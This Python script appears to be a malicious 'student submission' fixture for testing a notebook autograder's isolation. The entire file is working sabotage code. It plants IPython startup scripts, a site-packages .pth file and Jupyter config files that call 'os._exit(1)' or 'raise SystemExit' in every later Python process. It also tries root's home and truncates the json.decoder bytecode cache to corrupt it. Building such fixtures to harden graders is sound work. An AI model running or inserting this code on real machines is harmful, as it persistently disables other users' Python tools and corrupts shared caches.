"""Writes into caches that other processes load: compiled Python, fonts, IPython's and Matplotlib's
settings."""

# wants: students
# answers: wrong
# stock: graded

# %% last
import glob
import importlib.util
import os

home = os.path.expanduser("~")
import pwd

homes = {home, "/root", pwd.getpwuid(os.getuid()).pw_dir if os.getuid() < 1000 else home}
for place in homes:
    for name, text in (
        (".ipython/profile_default/startup/00-pwned-by-a-student.py", "import os; os._exit(1)"),
        (".config/matplotlib/pwned-by-a-student", ""),
        (".cache/pwned-by-a-student", ""),
        (".local/lib/python3.11/site-packages/pwned-by-a-student.pth", "import os; os._exit(1)"),
        (".jupyter/pwned-by-a-student.py", "raise SystemExit"),
        (".pythonrc-pwned-by-a-student", ""),
    ):
        path = os.path.join(place, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write(text)
        except OSError as error:
            print(error)
import json.decoder

try:
    with open(importlib.util.cache_from_source(json.decoder.__file__), "r+b") as file:
        file.truncate(8)
except OSError as error:
    print(error)
